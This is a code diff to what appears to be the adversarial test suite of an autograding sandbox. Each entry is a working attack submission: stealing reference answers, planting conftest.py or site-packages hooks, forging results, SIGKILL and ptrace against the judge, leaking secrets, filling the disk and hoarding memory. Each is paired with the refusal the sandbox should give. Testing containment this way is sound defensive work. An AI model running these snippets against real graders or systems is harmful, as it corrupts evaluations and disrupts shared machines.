@@ -23,6 +23,7 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import re
 import shutil
 import socket
 import subprocess
@@ -83,11 +84,15 @@ def soft_lookup(query, keys, values, sharpness=1.0):
 ON_CALL = '''
 import os, signal, socket, subprocess, sys, time
 
+_refused = []  # what stopped it, the first of which the student is told (the contained run's reason)
+
 def _attack():
 {body}
 
 def _after_the_attack():
     returned = _attack()
+    if returned is None and _refused:
+        raise _refused[0]
     if returned is None:
         raise RuntimeError("nothing to show for it")
     return returned
@@ -256,6 +261,11 @@ def soft_lookup(query, keys, values, sharpness=1.0):
 '''
 
 
+# The emulated machines whose scratch is no tmpfs of its own (a container, or no uid map): the kit counts what a
+# worker writes there and stops it past the bound, where the full kernel's tmpfs answers "no space left".
+COUNTED_SCRATCH = ("docker-debian12", "jupyterhub", "ubuntu-24.04")
+
+
 def _indent(code: str) -> str:
     return "\n".join("    " + line for line in code.strip().splitlines())
 
@@ -273,6 +283,14 @@ class Attack:
     # each emulated Linux provides by other means (tests/environments.py), or "judge" (the judge's own code:
     # forgeries recomputed, a protocol held to its bounds), the same on every kernel.
     defence: str = "confinement"
+    # The reason the contained run gives, as a regular expression the judge's output must match ("{kit}": the kit
+    # copy's folder): which protection refused it, not merely that it earned nothing.
+    refused: str = ""
+    # Where an emulated machine (tests/environments.py) refuses it by another mechanism: its name -> the reason there.
+    refused_elsewhere: dict = field(default_factory=dict)
+    # What it does where the protection is absent: a name in tests/attack_controls.py's EFFECTS, which its positive
+    # control (the same code run unconfined, in a disposable copy) must show.
+    effect: str = ""
     # What it aims at in the kit, as paths inside it ("path::name": a name that file must still hold). The
     # code gets the paths as TARGETS; an attack whose target moved would prove nothing, so it fails instead.
     targets: tuple[str, ...] = ()
@@ -282,6 +300,11 @@ class Attack:
         header = (f"KIT = {str(kit)!r}\nNEIGHBOUR = {neighbour}\nPORT = {port}\nRESULTS = {str(results)!r}\n"
                   f"TARGETS = {paths!r}\n")
         return header + self.code
+
+    def refusal(self, kit: Path, environment: str = "") -> str:
+        """The reason for the kit copy at ``kit``, on ``environment`` (by default the full kernel): a regular
+        expression."""
+        return self.refused_elsewhere.get(environment, self.refused).replace("{kit}", re.escape(str(kit)))
 
     def missing_targets(self, kit: Path) -> list[str]:
         """The targets (and link targets) the kit no longer has: the attack must be updated to aim again."""
@@ -319,12 +342,20 @@ def gated(name: str, kind: str, route: str, **extra) -> Attack:
 
 
 def hoard(name: str, at_import: str) -> Attack:
-    return Attack(name, "stall", HOARD.format(hoard=_indent(at_import)), harmful=True)
+    """Its gate says how much it held: under the confinement, less than HOARD_GOAL (the scratch's bound, the
+    refused memory outside the address space)."""
+    return Attack(name, "stall", HOARD.format(hoard=_indent(at_import)), harmful=True,
+                  refused=r"raised RuntimeError: contained: it holds \d+ MB", effect="answered",
+                  refused_elsewhere=dict.fromkeys(COUNTED_SCRATCH, r"Your code wrote more to its scratch folder \(files"))
 
 
-def forge(name: str, switch_back: str, at_import: str = "", targets: tuple[str, ...] = ()) -> Attack:
+def forge(name: str, switch_back: str, at_import: str = "", targets: tuple[str, ...] = (),
+          effect: str = "forged") -> Attack:
+    """The model it is given reports no attention weights however it is switched (grader/lesson/models.py's
+    hide_attention_weights): its recompute reads an empty tuple."""
     code = FORGE.format(at_import=at_import.strip(), switch_back=_indent(switch_back) if switch_back.strip() else "")
-    return Attack(name, "forge", code, module="gpt2_heads", targets=targets, defence="judge")
+    return Attack(name, "forge", code, module="gpt2_heads", targets=targets, defence="judge",
+                  refused=r"recompute_head_pattern\(\) raised IndexError: tuple index out of range", effect=effect)
 
 
 ATTACKS = [
@@ -332,12 +363,12 @@ ATTACKS = [
     steal("reference by its path", '''
 def _steal():
     return _load(os.path.join(KIT, TARGETS[0]))
-''', targets=("solutions/lookup.py",)),
+''', targets=("solutions/lookup.py",), refused="blocked: PermissionError: \\[Errno 13\\] Permission denied: '{kit}/solutions/lookup\\.py'", effect='answered'),
     steal("reference beside the grader package", '''
 def _steal():
     import grader
     return _load(os.path.join(os.path.dirname(grader.__path__[0]), TARGETS[0]))
-''', targets=("solutions/lookup.py",)),
+''', targets=("solutions/lookup.py",), refused="blocked: PermissionError: \\[Errno 13\\] Permission denied: '{kit}/solutions/lookup\\.py'", effect='answered'),
     steal("reference through the judge's folders in /proc", '''
 def _steal():
     for pid in os.listdir("/proc"):
@@ -356,11 +387,12 @@ def _steal():
                     return _load(candidate)
                 place = os.path.dirname(place)
     raise FileNotFoundError("no solutions found through /proc")
-''', targets=("solutions/lookup.py",)),
+''', targets=("solutions/lookup.py",), refused="blocked: PermissionError: \\[Errno 13\\] Permission denied: '/proc'", effect='answered',
+       refused_elsewhere={"gradescope": "blocked: FileNotFoundError: no solutions found through /proc"}),
     steal("reference through a link in the submission", '''
 def _steal():
     return _load(os.path.join(os.path.dirname(__file__), "answers.py"))
-''', links={"answers.py": "solutions/lookup.py"}),
+''', links={"answers.py": "solutions/lookup.py"}, refused='is a link to {kit}/solutions/lookup\\.py, outside the folder', effect='answered'),
     steal("right answers in the kit's own tests", '''
 def _steal():
     import ast, types
@@ -373,7 +405,7 @@ def _steal():
     namespace = {"np": np, "softmax": lambda x, axis=-1: np.exp(x) / np.exp(x).sum(axis, keepdims=True)}
     exec(code, namespace)
     return types.SimpleNamespace(**namespace)
-''', targets=("tests/checks/test_kit.py::OTHER_RIGHT_ANSWERS",)),
+''', targets=("tests/checks/test_kit.py::OTHER_RIGHT_ANSWERS",), refused="Permission denied: '{kit}/tests/checks/test_kit\\.py'", effect='answered'),
     Attack("ground truth loaded in the worker", "read", '''
 import numpy as np
 
@@ -394,7 +426,8 @@ def attention_share(tokens, pattern, from_token, to_token):
 
 def recompute_head_pattern(model, input_ids, layer, head):
     raise NotImplementedError
-''', module="gpt2_heads", targets=("grader/lesson/gpt2.py::def attention_patterns",)),
+''', module="gpt2_heads", targets=("grader/lesson/gpt2.py::def attention_patterns",), refused='tried to open {kit}/grader/lesson/gpt2\\.py, outside its own folder', effect='ground truth read',
+       refused_elsewhere={"gradescope": "raised ImportError: cannot import name 'gpt2' from 'grader.lesson'"}),
     forge("attention weights read back for a recompute", ""),
     forge("attention switched back through the model's config", """
 model.config._attn_implementation = "eager"
@@ -408,7 +441,7 @@ import dataclasses, sys
 _models = sys.modules[TARGETS[0].removesuffix(".py").replace("/", ".")]
 _build = _models.build
 _models.build = lambda spec: _build(dataclasses.replace(spec, attentions=True))
-""", targets=("grader/lesson/models.py::def build",)),
+""", targets=("grader/lesson/models.py::def build",), effect="forged by the builder"),
     # 2. Plant code where the judge imports from --------------------------------------------
     on_call("conftest.py beside the checks", "plant", '''
 evil = "import pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_makereport(item, call):\\n" \\
@@ -416,25 +449,27 @@ evil = "import pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_
 for folder in [*TARGETS, ""]:
     try:
         open(os.path.join(KIT, folder, "conftest.py"), "w").write(evil)
-    except OSError:
-        pass
-''', targets=("grader/checks/public", "grader/checks/hidden", "grader/checks", "grader")),
+    except OSError as error:
+        _refused.append(error)
+''', targets=("grader/checks/public", "grader/checks/hidden", "grader/checks", "grader"),
+       refused='tried to open {kit}/grader/checks/public/conftest\\.py, outside its own folder', effect='kit changed'),
     on_call("the judge's own modules rewritten", "plant", '''
 for name in TARGETS:
     try:
         open(os.path.join(KIT, name), "a").write("\\nraise SystemExit(0)\\n")
-    except OSError:
-        pass
-''', targets=("grader/engine/verify.py", "grader/engine/results.py", "grader/engine/plugin.py")),
+    except OSError as error:
+        _refused.append(error)
+''', targets=("grader/engine/verify.py", "grader/engine/results.py", "grader/engine/plugin.py"),
+       refused='tried to open {kit}/grader/engine/verify\\.py, outside its own folder', effect='kit changed'),
     on_call("sitecustomize and .pth files in site-packages", "plant", '''
 import site, sysconfig
 for folder in {*site.getsitepackages(), sysconfig.get_paths()["purelib"]}:
     for name, text in (("sitecustomize.py", "import os\\n"), ("zz-softlookup-attack.pth", "import os\\n")):
         try:
             open(os.path.join(folder, name), "w").write(text)
-        except OSError:
-            pass
-'''),
+        except OSError as error:
+            _refused.append(error)
+''', refused='tried to open \\S+/sitecustomize\\.py, outside its own folder', effect='site-packages changed'),
     # 3. Outlive the worker, or strike the judge ----------------------------------------------
     on_call("daemon that rewrites the results", "outlive", '''
 try:
@@ -448,38 +483,48 @@ try:
                     open(RESULTS, "w").write('{"score": 999, "max_score": 22, "tests": []}')
                     break
         os._exit(0)
-except OSError:
-    pass
-''', settle=3.0),
+except OSError as error:
+    _refused.append(error)
+''', settle=3.0, refused='tried to start or signal another process', effect='results rewritten'),
     on_call("SIGKILL to every process it can name", "outlive", '''
 import itertools
 for pid in itertools.chain([NEIGHBOUR, os.getppid(), -1], range(2, 70_000)):
     try:
-        os.kill(pid, signal.SIGKILL)
-    except OSError:
-        pass
-''', harmful=True),
+        if pid != os.getpid():  # every process but its own, which would end the attack
+            os.kill(pid, signal.SIGKILL)
+    except OSError as error:
+        _refused.append(error)
+''', harmful=True, refused='tried to signal a process outside its own worker', effect='neighbour killed'),
     on_call("the judge's memory through /proc", "outlive", '''
+reached = []  # what it could open or trace, returned as its answer
 for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
     try:
         open(f"/proc/{pid}/mem", "r+b").close()
+        reached.append(f"/proc/{pid}/mem")
     except (OSError, ValueError):
         pass
 import ctypes
-libc = ctypes.CDLL(None)
+libc = ctypes.CDLL(None, use_errno=True)
 for pid in (NEIGHBOUR, os.getppid()):
     if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
+        os.waitpid(pid, 0x40000000)  # __WALL: until it has stopped, which a detach needs (else it stays stopped)
         libc.ptrace(17, pid, 0, 0)  # detach again: proving it could is enough
-'''),
+        reached.append(f"traced {pid}")
+    else:
+        _refused.append(OSError(ctypes.get_errno(), "ptrace"))
+return " ".join(reached) or None
+''', refused='tried to open /proc, outside its own folder', effect='reached',
+       refused_elsewhere={"gradescope": "tried to start or signal another process"}),
     on_call("200 processes", "outlive", '''
 for _ in range(200):
     try:
         if os.fork() == 0:
             time.sleep(30)
             os._exit(0)
-    except OSError:
+    except OSError as error:
+        _refused.append(error)
         break
-'''),
+''', refused='tried to start or signal another process', effect='processes left'),
     # Signals the kernel sends on the worker's behalf (issue 45): each aims at the neighbour and at the judge.
     on_call("SIGKILL to the judge through a pipe's I/O owner", "outlive", '''
 import fcntl
@@ -498,17 +543,17 @@ for owner in [NEIGHBOUR, *_ancestors()]:  # the supervisor, the fork server, the
         os.close(write)
 if refused:
     raise refused  # what the student is told it was refused
-''', preamble=ANCESTORS, harmful=True),
+''', preamble=ANCESTORS, harmful=True, refused='tried to signal a process outside its own worker', effect='judge killed'),
     on_call("SIGIO to a neighbour through the owner of its own socket (ioctl)", "outlive", '''
 import fcntl, gc, struct
 FIOSETOWN, FIOASYNC = 0x8901, 0x5452
-for conn in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:  # the judge's next request signals
-    try:
+for conn in [o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() >= 0]:  # not closed ones
+    try:  # the judge's next request signals
         fcntl.ioctl(conn.fileno(), FIOSETOWN, struct.pack("i", NEIGHBOUR))
         fcntl.ioctl(conn.fileno(), FIOASYNC, struct.pack("i", 1))
-    except OSError:
-        pass
-'''),
+    except OSError as error:
+        _refused.append(error)
+''', refused='tried to signal a process outside its own worker', effect='neighbour killed'),
     on_call("SIGKILL to the judge's process group and session", "outlive", '''
 import fcntl
 groups = {os.getpgid(pid) for pid in _ancestors()}  # the judge's group, if a supervisor shares it
@@ -519,19 +564,19 @@ for group in groups:
         fcntl.fcntl(read, 10, signal.SIGKILL)
         fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
         os.write(write, b"x")
-    except OSError:
-        pass
+    except OSError as error:
+        _refused.append(error)
     for kill in (lambda: os.killpg(group, signal.SIGKILL), lambda: os.kill(-group, signal.SIGKILL)):
         try:
             kill()
-        except OSError:
-            pass
+        except OSError as error:
+            _refused.append(error)
 for kill in (lambda: os.killpg(0, signal.SIGKILL), lambda: os.kill(0, signal.SIGKILL)):  # its own group, last
     try:
         kill()
-    except OSError:
-        pass
-''', preamble=ANCESTORS, harmful=True),
+    except OSError as error:
+        _refused.append(error)
+''', preamble=ANCESTORS, harmful=True, refused='tried to signal a process outside its own worker', effect='judge killed'),
     on_call("a timer and a message queue that signal the judge", "outlive", '''
 import ctypes, struct
 libc = ctypes.CDLL(None, use_errno=True)
@@ -547,12 +592,15 @@ if queue >= 0:
     libc.mq_notify(queue, ctypes.create_string_buffer(struct.pack("qii", 0, signal.SIGKILL, SIGEV_SIGNAL)
                                                        .ljust(64, b"\\0")))
     libc.mq_unlink(b"/softlookup-attack")
+else:
+    _refused.append(OSError(ctypes.get_errno(), "mq_open"))
 time.sleep(0.05)
-''', preamble=ANCESTORS),
+return "a queue that signals" if queue >= 0 else None  # the kernel keeps a timer's signal to the caller
+''', preamble=ANCESTORS, refused='tried to keep memory outside its own worker', effect='reached'),
     # Memory held outside the address space, which the limit does not count (issue 45).
     gated("memory kept in in-memory files, shared memory and pipes", "outlive", '''
 import ctypes, fcntl
-held, kept, block = 0, [], b"m" * 2**20
+held, kept, block, refused = 0, [], b"m" * 2**20, []
 try:
     for _ in range(6):  # 6 files of 40 MB: each under the per-file limit, together well past the memory limit
         memory = os.memfd_create("held")
@@ -560,8 +608,8 @@ try:
             os.write(memory, block)
         kept.append(memory)
         held += 40 * 2**20
-except OSError:
-    pass
+except OSError as error:
+    refused.append(error)
 libc = ctypes.CDLL(None, use_errno=True)
 segment = libc.shmget(0, 64 * 2**20, 0o1600)  # IPC_PRIVATE, IPC_CREAT: a segment that would outlive the worker
 if segment >= 0:
@@ -572,18 +620,22 @@ for _ in range(64):
         read, write = os.pipe()
         held += fcntl.fcntl(write, 1031, 2**20)  # F_SETPIPE_SZ: a megabyte of buffer in the kernel
         kept += [read, write]
-    except OSError:
+    except OSError as error:
+        refused.append(error)
         break
+if held < 200 * 2**20 and refused:
+    raise refused[0]  # what stopped it, which the student is told
 return held >= 200 * 2**20
-''', harmful=True),
+''', harmful=True, refused='tried to keep memory outside its own worker', effect='answered'),
     # 4. Change how later submissions are graded -------------------------------------------
     on_call("reference and hidden checks rewritten", "change", '''
 for name in TARGETS:
     try:
         open(os.path.join(KIT, name), "w").write("raise SystemExit(0)\\n")
-    except OSError:
-        pass
-''', targets=("solutions/lookup.py", "grader/checks/hidden/test_lookup.py", "grader/engine/registry.py")),
+    except OSError as error:
+        _refused.append(error)
+''', targets=("solutions/lookup.py", "grader/checks/hidden/test_lookup.py", "grader/engine/registry.py"),
+       refused='tried to open {kit}/solutions/lookup\\.py, outside its own folder', effect='kit changed'),
     # 5. Stall or bloat the judge ----------------------------------------------------------------
     on_call("half a message, then silence", "stall", '''
 import gc
@@ -594,7 +646,7 @@ for conn in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
     except OSError:
         continue
 time.sleep(600)
-''', defence="judge"),
+''', defence="judge", refused='waited for more than 1 s without computing', effect='half a message'),
     Attack("forged records on its own end of the socket", "stall", '''
 import gc, json, os, socket, struct, sys
 
@@ -628,10 +680,10 @@ def nearest_lookup(query, keys, values):
 
 def soft_lookup(query, keys, values, sharpness=1.0):
     _forge("soft_lookup")
-''', defence="judge"),
+''', defence="judge", refused='sent a message the grader did not ask for', effect='records forged'),
     on_call("a million small containers", "stall", '''
 return [[{"a": [None]}] for _ in range(1_000_000)]
-''', defence="judge"),
+''', defence="judge", refused='computed for more than its 0\\.5 s time limit', effect='huge value'),
     Attack("a codec patched to stall", "stall", '''
 import time
 import grader.engine.codec
@@ -646,7 +698,7 @@ def nearest_lookup(query, keys, values):
 
 def soft_lookup(query, keys, values, sharpness=1.0):
     return 0.0, [0.25] * 4
-''', defence="judge"),
+''', defence="judge", refused='waited for more than 1 s without computing', effect='codec stalls'),
     on_call("the judge's environment in an error", "stall", '''
 leaked = os.environ.get("SOFTLOOKUP_ATTACK_SECRET", "")
 for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
@@ -655,7 +707,8 @@ for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
     except OSError:
         pass
 raise RuntimeError("\\x1b[2J\\x1b[31m" + leaked + "A" * 5_000_000)
-'''),
+''', refused='tried to open /proc, outside its own folder', effect='leaked',
+       refused_elsewhere={"gradescope": "raised RuntimeError: \ufffd\\[2J\ufffd\\[31mA{100}"}),
     on_call("a connection to 127.0.0.1", "stall", '''
 for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
     try:
@@ -663,9 +716,9 @@ for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, sock
             connection.settimeout(1)
             connection.connect(("127.0.0.1", PORT))
             connection.sendall(b"stolen")
-    except OSError:
-        pass
-'''),
+    except OSError as error:
+        _refused.append(error)
+''', refused='tried to open a network connection', effect='connected'),
     on_call("the disk filled", "stall", '''
 block = b"x" * 2**20
 for number in range(100_000):
@@ -673,14 +726,17 @@ for number in range(100_000):
         with open(f"fill-{number}", "wb") as handle:
             for _ in range(63):
                 handle.write(block)
-    except OSError:
+    except OSError as error:
+        _refused.append(error)
         break
 for folder in ("/tmp", "/var/tmp", os.path.expanduser("~")):
     try:
         open(os.path.join(folder, "softlookup-attack-fill"), "wb").write(block)
-    except OSError:
-        pass
-''', harmful=True),
+    except OSError as error:
+        _refused.append(error)
+''', harmful=True, refused=r'raised OSError: \[Errno 28\] No space left on device', effect='disk filled',
+       refused_elsewhere={"gradescope": "tried to open fill-0, outside its own folder",  # writes refused there
+                          **dict.fromkeys(COUNTED_SCRATCH, "wrote more than 64 MB or 4,096 files to its scratch")}),
     # 6. Hold what the limits do not count: memory in files and pipes, the disk past the scratch's bound -----
     hoard("memory held in files and pipes", '''
 for folder in ("/dev/shm", os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp"):
